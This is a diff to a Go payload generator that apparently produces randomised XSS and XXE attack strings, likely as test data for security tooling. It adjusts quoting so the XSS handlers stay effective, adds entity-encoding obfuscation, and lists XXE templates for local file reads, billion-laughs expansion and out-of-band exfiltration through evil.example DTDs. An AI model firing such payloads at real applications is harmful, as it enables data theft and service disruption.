@@ -173,7 +173,13 @@ func genXSS(r *rand.Rand) atk {
 	if r.IntN(8) == 0 {
 		v = pick(r, extra)
 	} else {
-		v = fmt.Sprintf(pick(r, tmpls), js)
+		t := pick(r, tmpls)
+		if strings.ContainsAny(js, " \t>") {
+			// an unquoted attribute value ends at a space or '>': quote it,
+			// or the handler is cut short and is no attack
+			t = strings.Replace(strings.Replace(t, "=%s", "=\"%s\"", 1), "=javascript:%s", "=\"javascript:%s\"", 1)
+		}
+		v = fmt.Sprintf(t, js)
 	}
 	a := atk{value: v, param: pick(r, []string{"q", "search", "comment", "name", "message", "redirect", "title", "callback", "returnUrl", "msg", "text", "bio"})}
 	switch r.IntN(9) {
@@ -184,13 +190,10 @@ func genXSS(r *rand.Rand) atk {
 			a.value, a.obf = xssWhitespace(a.value, r), "whitespace"
 		}
 	case 2:
-		if i := strings.Index(a.value, "=") + 1; i > 0 && strings.Contains(a.value[:i], " on") && strings.HasPrefix(a.value, "<") {
-			// entities in an event handler are decoded by the browser
-			end := strings.IndexAny(a.value[i:], "> ")
-			if end > 0 {
-				a.value = a.value[:i] + htmlEntities(a.value[i:i+end], r.IntN(2) == 0, r) + a.value[i+end:]
-				a.obf = "html_entity"
-			}
+		// entities in an event handler's value are decoded by the browser
+		// before the script runs
+		if v, ok := xssHandlerEntities(a.value, r); ok {
+			a.value, a.obf = v, "html_entity"
 		}
 	case 3:
 		if strings.Contains(a.value, "(") {
@@ -206,6 +209,34 @@ func genXSS(r *rand.Rand) atk {
 		}
 	}
 	return a
+}
+
+// xssHandlerEntities encodes the value of the first event-handler
+// attribute (on...=) of a tag as character references, keeping its quotes.
+func xssHandlerEntities(s string, r *rand.Rand) (string, bool) {
+	if !strings.HasPrefix(s, "<") {
+		return "", false
+	}
+	j := strings.Index(s, " on")
+	if j < 0 {
+		return "", false
+	}
+	k := strings.IndexByte(s[j:], '=')
+	if k < 0 || strings.ContainsAny(s[j+1:j+k], " >") {
+		return "", false
+	}
+	i := j + k + 1
+	end := -1
+	if i < len(s) && (s[i] == '"' || s[i] == '\'') {
+		i++
+		end = strings.IndexByte(s[i:], s[i-1])
+	} else {
+		end = strings.IndexAny(s[i:], "> \t\n")
+	}
+	if end <= 0 {
+		return "", false
+	}
+	return s[:i] + htmlEntities(s[i:i+end], r.IntN(2) == 0, false, r) + s[i+end:], true
 }
 
 func xssTagCase(s string, r *rand.Rand) string {
@@ -496,7 +527,7 @@ func genXXE(r *rand.Rand) atk {
 		decl + `<!DOCTYPE ` + root + ` [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]><` + root + `>x</` + root + `>`,
 		decl + `<!DOCTYPE ` + root + ` [<!ENTITY % file SYSTEM "` + f + `"><!ENTITY % dtd SYSTEM "http://evil.example/oob.dtd">%dtd;%send;]><` + root + `/>`,
 		decl + `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]><lolz>&lol4;</lolz>`,
-		`<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><!DOCTYPE x [<!ENTITY xxe SYSTEM "` + f + `">]><soap:Body><getUser><id>&xxe;</id></getUser></soap:Body></soap:Envelope>`,
+		`<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "` + f + `">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><getUser><id>&xxe;</id></getUser></soap:Body></soap:Envelope>`,
 		`<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "` + f + `">]><svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>`,
 		`<` + root + ` xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="` + f + `"/></` + root + `>`,
 		decl + `<!DOCTYPE ` + root + ` SYSTEM "http://evil.example/x.dtd"><` + root + `>&ent;</` + root + `>`,
